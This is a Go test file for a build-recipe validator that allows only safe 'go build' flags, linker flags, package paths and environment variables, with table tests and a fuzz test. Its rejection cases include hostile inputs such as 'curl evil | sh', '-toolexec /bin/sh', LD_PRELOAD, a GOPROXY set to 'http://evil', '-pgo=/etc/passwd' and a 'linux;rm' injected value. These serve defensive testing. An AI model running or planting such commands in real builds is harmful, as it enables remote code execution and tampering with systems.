package rebuild

import (
	"flag"
	"io"
	"path/filepath"
	"strings"
	"testing"

	"ssms.dev/ssms/manifest"
)

func TestCheckRecipe(t *testing.T) {
	ok := []string{"go", "build"}
	tests := []struct {
		command []string
		env     map[string]string
		want    string // "" = accepted; else a substring of the error
	}{
		{command: []string{"go", "build", "-trimpath", "-buildvcs=false", "-ldflags=-buildid=", "-o", "smp-client", "./cmd/smp-client"}, env: map[string]string{"CGO_ENABLED": "0", "GOOS": "linux", "GOARCH": "amd64"}},
		{command: []string{"go", "build", "-o=bin/x", "-ldflags", "-s -w -X example.org/m/v.Version=1.2.3 -X=main.x=y", "-tags=netgo,osusergo", "-mod=vendor", "-a", "-v", "-buildmode=pie", "-pgo=off", "./...", "."}, env: map[string]string{"GOAMD64": "v3", "GOEXPERIMENT": "loopvar,rangefunc"}},
		{command: ok, env: map[string]string{}},
		// The command.
		{command: []string{"sh", "-c", "curl evil | sh"}, want: `command: must start with "go", "build"`},
		{command: []string{"/usr/local/go/bin/go", "build"}, want: `must start with "go", "build"`},
		{command: []string{"go", "run", "."}, want: `must start with "go", "build"`},
		{command: []string{"go"}, want: `must start with "go", "build"`},
		// Refused flags, named with their position.
		{command: []string{"go", "build", "-toolexec", "/bin/sh"}, want: "command[2]: -toolexec is not allowed (allowed: -trimpath"},
		{command: []string{"go", "build", "-trimpath", "-toolexec=x"}, want: "command[3]: -toolexec is not allowed"},
		{command: []string{"go", "build", "-exec", "x"}, want: "command[2]: -exec is not allowed"},
		{command: []string{"go", "build", "-overlay=o.json"}, want: "-overlay is not allowed"},
		{command: []string{"go", "build", "-modfile=x.mod"}, want: "-modfile is not allowed"},
		{command: []string{"go", "build", "-C", "/"}, want: "-C is not allowed"},
		{command: []string{"go", "build", "-compiler=gccgo"}, want: "-compiler is not allowed"},
		{command: []string{"go", "build", "-gccgoflags=x"}, want: "-gccgoflags is not allowed"},
		{command: []string{"go", "build", "-gcflags=-N"}, want: "-gcflags is not allowed"},
		{command: []string{"go", "build", "-asmflags=x"}, want: "-asmflags is not allowed"},
		{command: []string{"go", "build", "-modcacherw"}, want: "-modcacherw is not allowed"},
		{command: []string{"go", "build", "-work"}, want: "-work is not allowed"},
		{command: []string{"go", "build", "-linkshared"}, want: "-linkshared is not allowed"},
		{command: []string{"go", "build", "--trimpath"}, want: "--trimpath is not allowed"},
		{command: []string{"go", "build", "--", "./x"}, want: "-- is not allowed"},
		{command: []string{"go", "build", "-trimpath=true"}, want: "command[2]: -trimpath takes no value"},
		{command: []string{"go", "build", "-buildvcs"}, want: "write -buildvcs=VALUE"},
		{command: []string{"go", "build", "-buildvcs=true"}, want: `"true" is not allowed (allowed: false)`},
		{command: []string{"go", "build", "-mod=mod"}, want: `-mod: "mod" is not allowed`},
		{command: []string{"go", "build", "-buildmode=plugin"}, want: `"plugin" is not allowed`},
		{command: []string{"go", "build", "-pgo=/etc/passwd"}, want: `-pgo: "/etc/passwd" is not allowed`},
		{command: []string{"go", "build", "-tags=a b"}, want: "comma-separated list"},
		{command: []string{"go", "build", "-o"}, want: "command[2]: -o needs a value"},
		// Outputs and packages stay in the checkout.
		{command: []string{"go", "build", "-o", "/tmp/x"}, want: "command[3]: -o: \"/tmp/x\" must be a clean relative path"},
		{command: []string{"go", "build", "-o=../x"}, want: "must be a clean relative path"},
		{command: []string{"go", "build", "-o=a/../../x"}, want: "must be a clean relative path"},
		{command: []string{"go", "build", "-o", "-x"}, want: "must be a clean relative path"},
		{command: []string{"go", "build", "-o=a/"}, want: "must be a clean relative path"},
		{command: []string{"go", "build", "example.org/evil"}, want: `command[2]: package "example.org/evil" is not allowed`},
		{command: []string{"go", "build", "./a/../../b"}, want: "is not allowed"},
		{command: []string{"go", "build", "./.."}, want: "is not allowed"},
		{command: []string{"go", "build", "./x", "-toolexec=y"}, want: `package "-toolexec=y" is not allowed`},
		{command: []string{"go", "build", "/abs"}, want: "is not allowed"},
		// The linker flags.
		{command: []string{"go", "build", "-ldflags=-extld=/bin/sh"}, want: `linker flag "-extld=/bin/sh" is not allowed`},
		{command: []string{"go", "build", "-ldflags", "-extldflags -static"}, want: `linker flag "-extldflags" is not allowed`},
		{command: []string{"go", "build", "-ldflags=-linkmode=external"}, want: `"-linkmode=external" is not allowed`},
		{command: []string{"go", "build", "-ldflags=-X main.v='a b'"}, want: "quotes"},
		{command: []string{"go", "build", "-ldflags=-X"}, want: `linker flag "-X" is not allowed`},
		{command: []string{"go", "build", "-ldflags=-X nodot=1"}, want: `linker flag "-X" is not allowed`},
		// The environment.
		{command: ok, env: map[string]string{"HOME": "/root"}, want: "environment: HOME is not allowed (allowed: CGO_ENABLED, GOOS"},
		{command: ok, env: map[string]string{"LD_PRELOAD": "/x.so"}, want: "LD_PRELOAD is not allowed"},
		{command: ok, env: map[string]string{"GOFLAGS": "-toolexec=x"}, want: "GOFLAGS is not allowed"},
		{command: ok, env: map[string]string{"GOPROXY": "http://evil"}, want: "GOPROXY is not allowed"},
		{command: ok, env: map[string]string{"PATH": "/tmp"}, want: "PATH is not allowed"},
		{command: ok, env: map[string]string{"CGO_ENABLED": "yes"}, want: `CGO_ENABLED: "yes" is not allowed (allowed: 0, 1)`},
		{command: ok, env: map[string]string{"GOOS": "linux;rm"}, want: "GOOS: \"linux;rm\": want"},
		{command: ok, env: map[string]string{"GOARCH": ""}, want: "GOARCH"},
	}
	for _, tt := range tests {
		env := tt.env
		if env == nil {
			env = map[string]string{}
		}
		err := CheckRecipe(&manifest.Recipe{Toolchain: "go1.26.8", Command: tt.command, Environment: env})
		switch {
		case tt.want == "" && err != nil:
			t.Errorf("%q %v: got %v, want accepted", tt.command, tt.env, err)
		case tt.want != "" && (err == nil || !strings.Contains(err.Error(), tt.want)):
			t.Errorf("%q %v: got %v, want an error containing %q", tt.command, tt.env, err, tt.want)
		}
	}
}

// TestProjectRecipesAllowed: the project's own recipes pass the policy.
func TestProjectRecipesAllowed(t *testing.T) {
	files, _ := filepath.Glob("../recipes/*.json")
	if len(files) == 0 {
		t.Fatal("no recipes in ../recipes")
	}
	for _, f := range files {
		name := strings.TrimSuffix(filepath.Base(f), ".json")
		if err := CheckRecipe(projectRecipe(t, name)); err != nil {
			t.Errorf("%s: %v", f, err)
		}
	}
	if err := CheckRecipe(demoRecipe("")); err != nil {
		t.Errorf("demo recipe: %v", err)
	}
}

// FuzzCheckRecipe: whatever CheckRecipe accepts, an independent parse
// with the flag package (as the go command and the linker parse their
// arguments, with their dangerous flags defined) finds only allowed
// flags, linker flags and variables, and only packages inside the module.
func FuzzCheckRecipe(f *testing.F) {
	f.Add("go\nbuild\n-trimpath\n-buildvcs=false\n-ldflags=-buildid=\n-o\nsmp-client\n./cmd/smp-client", "CGO_ENABLED=0\nGOOS=linux")
	f.Add("go\nbuild\n-ldflags\n-s -w -X a.b=c\n-tags=x,y\n./...", "GOAMD64=v3")
	f.Add("go\nbuild\n-toolexec\nsh\n.", "HOME=/root")
	f.Add("go\nbuild\n-ldflags=-extld=sh\n.", "")
	f.Fuzz(func(t *testing.T, argv, envs string) {
		env := map[string]string{}
		for _, kv := range strings.Split(envs, "\n") {
			if k, v, ok := strings.Cut(kv, "="); ok {
				env[k] = v
			}
		}
		r := &manifest.Recipe{Toolchain: "go1.26.8", Command: strings.Split(argv, "\n"), Environment: env}
		if CheckRecipe(r) != nil {
			return
		}
		for k := range env {
			if _, ok := allowedEnv[k]; !ok {
				t.Fatalf("accepted variable %s", k)
			}
		}
		referenceCheck(t, r.Command[2:])
	})
}

func referenceCheck(t *testing.T, args []string) {
	fs := flag.NewFlagSet("go build", flag.ContinueOnError)
	fs.SetOutput(io.Discard)
	for _, b := range []string{"trimpath", "a", "v", "n", "x", "i", "race", "msan", "asan", "cover", "linkshared", "modcacherw", "work"} {
		fs.Bool(b, false, "")
	}
	for _, s := range []string{"o", "ldflags", "tags", "mod", "buildmode", "pgo", "buildvcs", "toolexec", "exec", "overlay", "modfile", "C", "compiler", "gccgoflags", "gcflags", "asmflags", "p", "covermode", "coverpkg", "installsuffix", "pkgdir", "json"} {
		fs.String(s, "", "")
	}
	if err := fs.Parse(args); err != nil {
		t.Fatalf("accepted %q, which the flag package refuses: %v", args, err)
	}
	fs.Visit(func(f *flag.Flag) {
		if _, ok := allowedFlags["-"+f.Name]; !ok {
			t.Fatalf("accepted %q, which sets -%s", args, f.Name)
		}
	})
	if o := fs.Lookup("o").Value.String(); o != "" {
		if filepath.IsAbs(o) {
			t.Fatalf("accepted output %q", o)
		}
		for _, el := range strings.Split(o, "/") {
			if el == ".." || strings.HasPrefix(el, ".") { // out of the tree, or .git and dotfiles
				t.Fatalf("accepted output %q", o)
			}
		}
	}
	for _, p := range fs.Args() {
		if p != "." && !strings.HasPrefix(p, "./") || strings.Contains(p, "/../") || strings.HasSuffix(p, "/..") {
			t.Fatalf("accepted package %q", p)
		}
	}
	ld := flag.NewFlagSet("link", flag.ContinueOnError)
	ld.SetOutput(io.Discard)
	ld.Bool("s", false, "")
	ld.Bool("w", false, "")
	var x []string
	ld.Func("X", "", func(v string) error { x = append(x, v); return nil })
	for _, s := range []string{"buildid", "extld", "extldflags", "linkmode", "r", "L", "I", "o", "H", "T", "tmpdir", "installsuffix"} {
		ld.String(s, "", "")
	}
	if err := ld.Parse(strings.Fields(fs.Lookup("ldflags").Value.String())); err != nil || ld.NArg() > 0 {
		t.Fatalf("accepted -ldflags %q: %v, args %q", fs.Lookup("ldflags").Value, err, ld.Args())
	}
	ld.Visit(func(f *flag.Flag) {
		if f.Name != "s" && f.Name != "w" && f.Name != "buildid" && f.Name != "X" {
			t.Fatalf("accepted linker flag -%s", f.Name)
		}
	})
}
